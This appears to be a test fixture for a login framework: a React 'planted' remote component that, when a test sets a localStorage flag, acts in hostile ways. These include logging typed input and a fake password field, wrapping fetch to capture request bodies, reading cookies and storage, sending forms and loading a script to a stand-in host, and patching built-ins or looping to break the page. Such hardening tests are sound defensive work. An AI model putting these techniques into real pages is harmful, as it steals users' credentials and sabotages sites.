import type { PageProps } from '@vestibule/contract';
import { createElement, Fragment, useEffect, type ChangeEvent, type ReactNode } from 'react';

/** What it does: the test says so in the browser's storage. Without that, it is a part like any other. */
const deed = () => window.localStorage.getItem('planted-deed');

/** A test can't end while a page goes on for ever; to the page and its browser this is the same. */
const FOR_EVER = 30_000;
const end = performance.now() + FOR_EVER;

if (deed() === 'loops at import') {
  window.localStorage.setItem('planted-runs', `${window.localStorage.getItem('planted-runs') ?? ''}I`);
  workUntil(end);
}
if (deed() === 'throws at import') throw new Error('planted');

/** What a remote might do to the page around it, each once it is shown. */
const DEEDS: Readonly<Record<string, () => void>> = {
  'hides buttons': () => addSheet('button { display: none !important }'),
  'covers the page': () => {
    const cover = document.createElement('div');
    cover.style.cssText = 'position:fixed;inset:0;z-index:9999;background:white';
    document.body.append(cover);
  },
  'swallows keys': () => window.addEventListener('keydown', stop, true),
  'stops users’ keys': () =>
    window.addEventListener('keydown', (event) => event.isTrusted && stop(event), true),
  'swallows submits': () => window.addEventListener('submit', stop, true),
  'swallows presses': () => document.addEventListener('click', stop, true),
  'patches map': () => {
    Reflect.set(Array.prototype, 'map', () => {
      throw new Error('planted');
    });
  },
  'patches fetch': () => {
    const original = window.fetch;
    window.fetch = (...args: Parameters<typeof fetch>) => {
      take(JSON.stringify(args[1]?.body));
      return original(...args);
    };
  },
  'locks fetch': () => {
    Object.defineProperty(window, 'fetch', {
      value: () => Promise.reject(new TypeError('planted')),
      writable: false,
      configurable: false,
    });
  },
  'reads what is typed': () => window.addEventListener('input', steal, true),
  'looks around': () => void lookAround(),
  'patches Response': () => {
    Reflect.set(Response.prototype, 'json', () => Promise.reject(new TypeError('planted')));
  },
  'patches URL': () => {
    Reflect.set(window, 'URL', function planted() {
      throw new TypeError('planted');
    });
  },
  'patches RegExp': () => {
    Reflect.set(RegExp.prototype, 'exec', () => null);
  },
  'patches createElement': () => {
    Reflect.set(Document.prototype, 'createElement', () => {
      throw new Error('planted');
    });
  },
  'patches setTimeout': () => {
    Reflect.set(window, 'setTimeout', () => 0);
  },
  'patches FormData': () => {
    Reflect.set(FormData.prototype, 'get', () => null);
    Reflect.set(FormData.prototype, 'entries', () => [][Symbol.iterator]());
  },
  'prevents typing': () => window.addEventListener('beforeinput', stop, true),
  'swallows what is typed': () => window.addEventListener('input', stop, true),
  'prevents pointers': () => {
    window.addEventListener('pointerdown', stop, true);
    window.addEventListener('mousedown', stop, true);
  },
  'takes the focus away': () =>
    window.addEventListener('focusin', ({ target }) => target instanceof HTMLElement && target.blur(), true),
  'empties fields': () => setInterval(() => forEach('input', (field) => (field.value = '')), 20),
  'disables fields': () => setInterval(() => forEach('input', (field) => (field.disabled = true)), 20),
  'makes fields read-only': () => setInterval(() => forEach('input', (field) => (field.readOnly = true)), 20),
  'disables the button': () => setInterval(() => forEach('button', (button) => (button.disabled = true)), 20),
  'keeps pointers off': () => addSheet('body { pointer-events: none !important }'),
  'moves the form away': () => addSheet('form { position: fixed !important; left: -9999px !important }'),
  'makes all transparent': () => addSheet('body { opacity: 0 !important }'),
  'makes the page inert': () => forEach('body', (body) => (body.inert = true)),
  'removes the form': () => setInterval(() => forEach('form', (form) => form.remove()), 20),
  'removes the button': () => setInterval(() => forEach('button', (button) => button.remove()), 20),
  'empties the page': () => document.body.replaceChildren(),
  'leaves the page': () => window.location.assign('/vestibule.config.json'),
  'loads the page again': () => window.location.reload(),
  'opens a dialog': () => {
    const dialog = document.createElement('dialog');
    document.body.append(dialog);
    dialog.showModal();
  },
  'sends forms elsewhere': () =>
    setInterval(() => forEach('form', (form) => (form.action = 'https://elsewhere.test/')), 20),
  'writes markup': () => {
    document.createElement('p').innerHTML = '<b>planted</b>';
  },
  'loads a script from elsewhere': () => {
    const script = document.createElement('script');
    script.src = 'https://elsewhere.test/script.js';
    document.head.append(script);
  },
  'calls another host': () => void fetch('https://elsewhere.test/'),
  'throws in an effect': fail,
  'throws in a timer': () => void setTimeout(fail),
  'throws in a handler': () => window.addEventListener('focusin', fail),
  'rejects a promise': () => void Promise.reject(new Error('planted')),
  'works for long': () => setInterval(() => workUntil(performance.now() + 300), 400),
};

function stop(event: Event): void {
  event.preventDefault();
  event.stopImmediatePropagation();
}

function steal({ target }: { readonly target: EventTarget | null }): void {
  if (target instanceof HTMLInputElement) take(target.value);
}

function take(what: string | undefined): void {
  Object.assign(window, { stolen: `${Object(window).stolen ?? ''} ${what}` });
}

/** Calls the API as the user, and collects what code of the page can read. */
async function lookAround(): Promise<void> {
  const { apiDomain } = await (await fetch('/vestibule.config.json')).json();
  const { status } = await fetch(`${apiDomain}/me`, { credentials: 'include' });
  const text = JSON.stringify([document.cookie, window.localStorage, window.sessionStorage]);
  Object.assign(window, { seen: { status, text } });
}

function fail(): never {
  throw new Error('planted');
}

function forEach<Name extends keyof HTMLElementTagNameMap>(
  name: Name,
  deal: (element: HTMLElementTagNameMap[Name]) => void,
): void {
  for (const element of document.querySelectorAll(name)) deal(element);
}

function addSheet(text: string): void {
  const sheet = new CSSStyleSheet();
  sheet.replaceSync(text);
  document.adoptedStyleSheets.push(sheet);
}

function workUntil(time: number): void {
  while (performance.now() < time);
}

/** Does it once something of the remote is shown, or when the test says so. */
function useDeed(what: string | null): void {
  useEffect(() => {
    const [, later] = /^later: (.*)/.exec(what ?? '') ?? [];
    if (later === undefined) DEEDS[what ?? '']?.();
    else window.addEventListener('planted-now', () => DEEDS[later]?.());
  }, [what]);
}

/** A slot of the login. */
export function Part() {
  const what = deed();
  if (what === 'loops in render') workUntil(end);
  if (what === 'throws in render') throw new Error('planted');
  useDeed(what);
  return createElement('p', null, 'The planted part');
}

/** A page, with the form of the login, or one that looks like it, if the test says so. */
export function PlantedPage({ context }: PageProps<ReactNode>) {
  const what = deed();
  useDeed(what);
  const form = what === 'asks for the form' && context.slot('sign-in/form', { onSuccess: () => undefined });
  const copy =
    what === 'imitates the login' &&
    createElement(
      'label',
      null,
      'Password ',
      createElement('input', {
        type: 'password',
        onChange: (event: ChangeEvent<HTMLInputElement>) => steal(event),
      }),
    );
  return createElement(Fragment, null, createElement('p', null, 'The planted page'), form, copy);
}
